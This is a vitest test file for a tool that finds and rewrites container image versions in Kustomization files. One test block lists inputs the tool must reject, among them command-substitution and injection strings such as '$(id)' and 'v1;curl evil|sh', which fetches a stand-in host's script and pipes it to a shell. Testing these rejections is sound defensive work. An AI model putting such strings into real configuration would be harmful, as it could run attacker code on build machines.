import { describe, expect, test } from "vitest";
import { DIGEST, listed, OTHER_DIGEST, pinAt, scanTexts, setIn } from "./given.ts";
import { crossWithTraits } from "./traits.ts";

const entries = (...lines: string[]) => `kind: Kustomization\nimages:\n${lines.join("\n")}\n`;

describe("the entries of `images`", () => {
  test("are found with what they name now", () => {
    const text = entries(
      "- name: IMAGE_PLACEHOLDER",
      "  newName: acme/app",
      "  newTag: b15411f387bb2a2286676b92a87fd85aa9b682a5",
      "- name: nginx",
      '  newTag: "1.10"',
      `  digest: ${DIGEST}`,
      "- name: nginx:1.9",
      "  newName: ghcr.io/acme/nginx:2.0.0",
      "- name: redis",
      `  digest: ${DIGEST}`,
    );
    expect(listed(scanTexts({ "kustomization.yaml": text }))).toEqual([
      "kustomization.yaml:5:11 images[name=IMAGE_PLACEHOLDER] docker.io/acme/app b15411f387bb2a2286676b92a87fd85aa9b682a5 exact",
      `kustomization.yaml:7:11 images[name=nginx] docker.io/library/nginx 1.10@${DIGEST} exact`,
      "kustomization.yaml:10:12 images[name=nginx:1.9] ghcr.io/acme/nginx 2.0.0 exact",
      `kustomization.yaml:12:11 images[name=redis] docker.io/library/redis @${DIGEST} exact`,
    ]);
  });

  test.each([
    ["kustomization.yaml", "images: [{name: a, newTag: v1}]\n", 1],
    ["a/kustomization.yml", "images: [{name: a, newTag: v1}]\n", 1],
    ["a/Kustomization", "kind: Kustomization\nimages: [{name: a, newTag: v1}]\n", 1],
    [
      "a/kustomization.yaml",
      "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nimages: [{name: a, newTag: v1}]\n",
      1,
    ],
    ["other.yaml", "kind: Kustomization\nimages: [{name: a, newTag: v1}]\n", 0],
    [
      "a/kustomization.yaml",
      "apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nimages: [{name: a, newTag: v1}]\n",
      0,
    ],
    ["a/kustomization.yaml", "kind: Kustomization\n---\nimages: [{name: a, newTag: v1}]\n", 0],
    ["a/kustomization.yaml", "kind: Deployment\nimages: [{name: a, newTag: v1}]\n", 0],
    ["a/kustomization.yaml", "kind: kustomization\nimages: [{name: a, newTag: v1}]\n", 0],
    ["a/kustomization.yaml", "apiVersion: kustomize.config.k8s.io/v1beta1\nimages: [{name: a, newTag: v1}]\n", 1],
    [
      "a/kustomization.yaml",
      "apiVersion: kustomize.config.k8s.io/v1\nkind: Plan\nimages: [{name: a, newTag: v1}]\n",
      0,
    ],
    ["a/kustomization.yaml", "", 0],
    ["a/kustomization.yaml", "- images\n", 0],
  ])("in %s holding %j: %i pins", (path, text, count) => {
    expect(scanTexts({ [path]: text }).pins).toHaveLength(count);
  });

  test("are found under the list's old name, and in any case of the keys", () => {
    const text = `kind: Kustomization\nImageTags:\n- Name: a\n  NEWTAG: v1\n`;
    expect(listed(scanTexts({ "kustomization.yaml": text }))).toEqual([
      "kustomization.yaml:4:11 images[name=a] docker.io/library/a v1 exact",
    ]);
    expect(setIn("kustomization.yaml", text, { "images[name=a]": "v2" })).toBe(text.replace("v1", "v2"));
  });

  test("of both lists side by side are refused in the old one", () => {
    const text = `${entries("- name: a", "  newTag: v1")}imageTags: [{name: b, newTag: v1}]\n`;
    expect(setIn("kustomization.yaml", text, { "images[name=a]": "v2" })).toContain("newTag: v2");
    expect(() => setIn("kustomization.yaml", text, { "imageTags[name=b]": "v2" })).toThrow("stand side by side");
  });

  test.each([
    [`v1@${DIGEST}`, `v2@${OTHER_DIGEST}`, `newTag: v2@${OTHER_DIGEST}`],
    [`v1@${DIGEST}`, "v2", "newTag: v2"],
    [`"v1@${DIGEST}"`, "1.10", 'newTag: "1.10"'],
    [`v1@${DIGEST}`, `@${OTHER_DIGEST}`, `digest: ${OTHER_DIGEST}`],
  ])("with newTag %s take %s", (tag, to, written) => {
    const text = entries("- name: a", `  newTag: ${tag}`);
    expect(setIn("kustomization.yaml", text, { "images[name=a]": to })).toBe(entries("- name: a", `  ${written}`));
  });

  test("with a digest in newTag and one of their own are refused", () => {
    const text = entries("- name: a", `  newTag: v1@${DIGEST}`, `  digest: ${DIGEST}`);
    expect(() => setIn("kustomization.yaml", text, { "images[name=a]": "v2" })).toThrow("both `newTag` and `digest`");
  });

  test("with a suffix for the tag: the suffix is guarded, and a tag beside it is refused as it would switch it off", () => {
    const text = entries("- name: a", "  tagSuffix: -alpine");
    const scan = scanTexts({ "kustomization.yaml": text });
    expect(pinAt(scan, "images[name=a].tagSuffix")).toMatchObject({
      version: { tag: "-alpine", digest: null },
      guarded: true,
      refusal: "it is the end of a tag, and no version by itself",
    });
    expect(() => setIn("kustomization.yaml", text, { "images[name=a]": "v2" })).toThrow("tagSuffix");
    const tagged = entries("- name: a", "  tagSuffix: -alpine", "  newTag: v1");
    expect(setIn("kustomization.yaml", tagged, { "images[name=a]": "v2" })).toBe(tagged.replace("v1", "v2"));
  });

  test("without a version take that of the resources, and are said to have none of their own", () => {
    const scan = scanTexts(
      {
        "prod/kustomization.yaml": `resources: [../base]\n${entries("- name: app", "  newName: acme/app")}`,
        "base/kustomization.yaml": "resources: [pod.yaml]\n",
        "base/pod.yaml": "apiVersion: v1\nkind: Pod\nspec: {containers: [{name: a, image: app:1.0.0}]}\n",
      },
      ["prod"],
    );
    expect(listed(scan)).toEqual(["prod/kustomization.yaml:4:9 images[name=app] docker.io/acme/app 1.0.0 absent"]);
  });

  test.each([
    ["two entries of one name", entries("- name: a", "  newTag: v1", "- name: a", "  newTag: v2"), "lines 3 and 5"],
    ["newTag twice", entries("- name: a", "  newTag: v1", "  newTag: v2"), '"newTag" stands twice, in lines 4 and 5'],
    ["newTag twice in two cases", entries("- name: a", "  newTag: v1", "  newtag: v2"), "lines 4 and 5"],
    ["images twice", `${entries("- name: a", "  newTag: v1")}images: [{name: a, newTag: v1}]\n`, "lines 2 and 5"],
    ["an alias", `x: &v v1\n${entries("- name: a", "  newTag: *v")}`, "alias *v, written in line 1"],
    ["an anchor in use", `${entries("- name: a", "  newTag: &v v1")}x: *v\n`, "*v in line 5"],
    ["a merge key", `x: &e {newTag: v1}\n${entries("- name: a", "  <<: *e")}`, "merge key (<<) from line 1"],
    ["a shell variable", entries("- name: a", "  newTag: ${TAG}"), "substituted later (${TAG})"],
    ["a template", entries("- name: a", "  newTag: '{{ .Tag }}'"), "template ({{ .Tag }})"],
    ["an unquoted template", entries("- name: a", "  newTag: {{ tag }}"), "template ({{ tag }})"],
    [
      "a marker comment",
      entries("- name: a", '  newTag: v1 # {"$imagepolicy": "flux-system:a:tag"}'),
      "flux-system:a:tag",
    ],
    ["a version in newName too", entries("- name: a", "  newName: b:v1", "  newTag: v2"), "keep the version in one"],
    ["a literal block", entries("- name: a", "  newTag: |-", "    v1"), "block scalar"],
    ["a generated file", `# This file is generated: do not edit\n${entries("- name: a", "  newTag: v1")}`, "generated"],
    ["an encrypted file", `${entries("- name: a", "  newTag: v1")}sops: {mac: "ENC[...]", version: 3.8.1}\n`, "SOPS"],
  ])("are refused with %s, and the file stays", (_, text, reason) => {
    const scan = scanTexts({ "kustomization.yaml": text });
    const [pin] = scan.pins;
    expect(pin).toBeDefined();
    expect(() => setIn("kustomization.yaml", text, { [pin?.path ?? ""]: "v9" })).toThrow(reason);
    expect(() => setIn("kustomization.yaml", text, { [pin?.path ?? ""]: "v9" })).toThrow(
      `kustomization.yaml:${pin?.line}: `,
    );
  });

  test.each([
    ["two entries of one name", entries("- name: a", "  newTag: v1", "- name: a", "  newTag: v2"), "lines 3 and 5"],
    ["newTag twice", entries("- name: a", "  newTag: v1", "  newTag: v2"), "lines 4 and 5"],
    ["images twice", `${entries("- name: a", "  newTag: v1")}images: [{name: a, newTag: v1}]\n`, "lines 2 and 5"],
  ])("are doubtful with %s: what they hold may not be what is meant", (_, text, lines) => {
    for (const pin of scanTexts({ "kustomization.yaml": text }).pins) expect(pin.doubt).toContain(lines);
  });

  test("are not doubtful because somebody else writes them", () => {
    const text = entries("- name: a", '  newTag: v1 # {"$imagepolicy": "flux-system:a:tag"}');
    expect(pinAt(scanTexts({ "kustomization.yaml": text }), "images[name=a]").doubt).toBeNull();
  });

  test("a marker comment says who writes here too", () => {
    const text = entries("- name: a", '  newTag: v1 # {"$imagepolicy": "flux-system:a:tag"}');
    expect(pinAt(scanTexts({ "kustomization.yaml": text }), "images[name=a]").automation).toContain(
      "flux-system:a:tag",
    );
  });
});

describe("a version that is none", () => {
  const text = entries("- name: a", "  newTag: v1");
  test.each([
    "v1\n  injected: true",
    "$(id)",
    "v1;curl evil|sh",
    "${{ secrets.X }}",
    "a".repeat(129),
    "-x",
    ".x",
    "a b",
    "",
    "a:b",
    "v1@sha256:abc",
    "v1@",
    `v1@sha256:${"A".repeat(64)}`,
  ])("%j never gets in", (to) => {
    expect(() => setIn("kustomization.yaml", text, { "images[name=a]": to })).toThrow("is no image version");
  });
});

crossWithTraits([
  {
    name: "a digest inside newTag",
    file: "kustomization.yaml",
    before: entries("- name: a", `  newTag: 'v1@${DIGEST}' # v1`),
    after: entries("- name: a", `  newTag: 'v2@${OTHER_DIGEST}' # v1`),
    set: { "images[name=a]": `v2@${OTHER_DIGEST}` },
  },
  {
    name: "a digest out of newTag",
    file: "kustomization.yaml",
    before: entries(`- {name: a, x: "🚀", newTag: v1@${DIGEST}} # v1`),
    after: entries('- {name: a, x: "🚀", newTag: "1.10"} # v1'),
    set: { "images[name=a]": "1.10" },
  },
  {
    name: "an entry under the list's old name",
    file: "kustomization.yaml",
    before: '"kind": Kustomization\nimageTags:\n  - Name: a\n    newTag:\n      v1\n',
    after: '"kind": Kustomization\nimageTags:\n  - Name: a\n    newTag:\n      v2\n',
    set: { "images[name=a]": "v2" },
  },
]);
